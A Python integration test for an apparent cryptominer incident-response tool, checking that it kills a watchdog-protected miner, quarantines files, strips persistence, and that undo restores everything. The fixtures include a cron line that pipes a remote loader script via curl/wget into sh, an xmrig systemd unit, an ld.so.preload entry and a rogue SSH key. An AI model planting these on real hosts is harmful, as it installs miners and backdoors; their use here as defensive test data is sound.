"""`minehunt respond` against a real miner kept alive by a watchdog, with every kind of
persistence a campaign plants; then `respond undo` puts every file back exactly."""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

from minehunt.model import Report
from minehunt.respond.quarantine import FS_IMMUTABLE_FL
from tests.conftest import run_cli
from tests.support.pool import Pool

from .conftest import (
    Meta,
    Planted,
    chattr_i,
    meta,
    plant_miner,
    respond_env,
    running_from,
    stop_planted,
    write,
)

CRON = (
    "SHELL=/bin/sh\n"
    "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
    "# backups stay\n"
    "30 2 * * * root /usr/local/bin/backup --quiet\n"
    "* * * * * root (curl -fsSL http://192.0.2.7/ldr.sh || wget -q -O- http://192.0.2.7/ldr.sh)"
    " | sh -s stratum+tcp://pool.supportxmr.com:3333\n"
    "15 4 * * 0 root /usr/sbin/logrotate /etc/logrotate.conf\n"
)
UNIT = (
    "[Unit]\nDescription=System update service\n\n[Service]\n"
    "ExecStart=/opt/.sys/xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1\n"
    "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n"
)
GOOD_UNIT = "[Service]\nExecStart=/usr/sbin/sshd -D\n\n[Install]\nWantedBy=multi-user.target\n"
ADMIN_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEQQfkGvVx3i admin@laptop"
)
CAMPAIGN_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC1Sdr0tIILsd8yPhKTLfVMdA6lsxsSfK0ndz6WlzQq2n8Ww7Jm"
    "kP1Hw9v3Tr0l8YqzGyb6sX9ZcVyqNv0cSbJ7cq mdrfckr"
)
HOSTS = "127.0.0.1 localhost\n::1 localhost ip6-localhost\n127.0.0.1 pool.supportxmr.com\n"
LIB_C = "__attribute__((constructor)) static void helper(void) { }\n"


def plant_root(root: Path, tmp: Path) -> dict[str, Path]:
    files = {
        "cron": write(root, "etc/cron.d/sysupdate", CRON),
        "unit": write(root, "etc/systemd/system/sysupdate.service", UNIT),
        "good_unit": write(root, "etc/systemd/system/ssh.service", GOOD_UNIT),
        "keys": write(root, "root/.ssh/authorized_keys", f"{ADMIN_KEY}\n{CAMPAIGN_KEY}\n", 0o600),
        "preload": write(root, "etc/ld.so.preload", "/usr/local/lib/libsystemd-helper.so\n"),
        "hosts": write(root, "etc/hosts", HOSTS),
    }
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    (wants / "sysupdate.service").symlink_to("/etc/systemd/system/sysupdate.service")
    (wants / "ssh.service").symlink_to("/etc/systemd/system/ssh.service")
    src = tmp / "helper.c"
    src.write_text(LIB_C)
    lib = root / "usr/local/lib/libsystemd-helper.so"
    lib.parent.mkdir(parents=True)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(lib), str(src)], check=True)
    files["lib"] = lib
    chattr_i(files["keys"])
    return files


def test_respond_stops_miner_and_persistence_then_undo_restores(
    pool: Pool, drop_dir: Path, root: Path, qdir: Path, tmp_path: Path
) -> None:
    files = plant_root(root, tmp_path)
    planted: Planted = plant_miner(drop_dir, pool.port)
    try:
        os.setxattr(planted.exe, "user.origin", b"dropper")
        chattr_i(planted.exe)
        miner = planted.miner_pid()
        deadline = time.monotonic() + 60
        while pool.logins < 1 and time.monotonic() < deadline:
            time.sleep(0.1)
        before: dict[str, Meta] = {k: meta(p) for k, p in files.items()}
        for name, p in (("exe", planted.exe), ("wd", planted.script), ("cfg", planted.config)):
            before[name] = meta(p)
        assert before["exe"].immutable and before["keys"].immutable

        r = run_cli(
            "respond",
            "--yes",
            "--root",
            str(root),
            "--pid",
            str(miner),
            "--min-severity",
            "medium",
            "--format",
            "json",
            env=respond_env(qdir),
        )
        assert r.code == 0, r.stderr
        report = Report.from_dict(json.loads(r.stdout))

        # Gone, and stays gone: the watchdog was stopped before the miner was killed.
        logins = pool.logins
        assert planted.watchdog.wait(timeout=10) == -9
        deadline = time.monotonic() + 30  # watched for 30 s: nothing comes back
        while time.monotonic() < deadline:
            assert running_from(drop_dir) == []
            assert pool.logins == logins, "nothing reconnected to the pool"
            time.sleep(1)
    finally:
        stop_planted(planted)

    # The miner's files are in the quarantine, not on disk.
    for p in (planted.exe, planted.script, planted.config, files["lib"]):
        assert not p.exists(), p
    assert (planted.exe.parent / "miner.py").exists(), "a file no finding names stays"
    # Exactly the one line of each start-up file is gone.
    assert files["cron"].read_text() == "".join(
        ln for ln in CRON.splitlines(keepends=True) if "ldr.sh" not in ln
    )
    assert files["keys"].read_text() == ADMIN_KEY + "\n"
    assert files["preload"].read_text() == ""
    assert files["hosts"].read_text() == "127.0.0.1 localhost\n::1 localhost ip6-localhost\n"
    units = root / "etc/systemd/system"
    assert os.readlink(units / "sysupdate.service") == "/dev/null", "masked"
    assert not (units / "multi-user.target.wants/sysupdate.service").is_symlink(), "disabled"
    assert (units / "multi-user.target.wants/ssh.service").is_symlink()
    assert meta(files["good_unit"]) == before["good_unit"]
    # Quarantined copies are not executable.
    stored = list((qdir).glob("*/files/*"))
    assert stored and all(p.stat().st_mode & 0o777 == 0o400 for p in stored)
    # The manifest keeps each file's original path and metadata.
    (manifest,) = qdir.glob("*/manifest.json")
    entries = {e["path"]: e for e in json.loads(manifest.read_text())["files"]}
    exe = entries[str(planted.exe)]
    assert exe["sha256"] == before["exe"].sha256 and exe["mode"] == 0o755
    assert exe["flags"] & FS_IMMUTABLE_FL and exe["xattrs"] == {"user.origin": b"dropper".hex()}
    # Each finding says what was done about it.
    acted = {f.target.path or f.target.pid: f.action for f in report.findings if f.action}
    assert "killed pid" in str(acted.get(miner))
    assert "removed line 5" in str(acted.get("/etc/cron.d/sysupdate"))

    listed = run_cli("respond", "list", "--json", env=respond_env(qdir))
    rows = [json.loads(x) for x in listed.stdout.splitlines()]
    assert len(rows) == 1 and rows[0]["state"] == "complete" and rows[0]["failed"] == 0

    u = run_cli("respond", "undo", "--last", "--yes", env=respond_env(qdir))
    assert u.code == 0, u.stderr
    for name, p in [
        *files.items(),
        ("exe", planted.exe),
        ("wd", planted.script),
        ("cfg", planted.config),
    ]:
        assert meta(p) == before[name], name
    assert (units / "multi-user.target.wants/sysupdate.service").is_symlink()
    assert running_from(drop_dir) == [], "processes are not restarted"
    rows = [
        json.loads(x)
        for x in run_cli("respond", "list", "--json", env=respond_env(qdir)).stdout.splitlines()
    ]
    assert rows[0]["state"] == "undone"
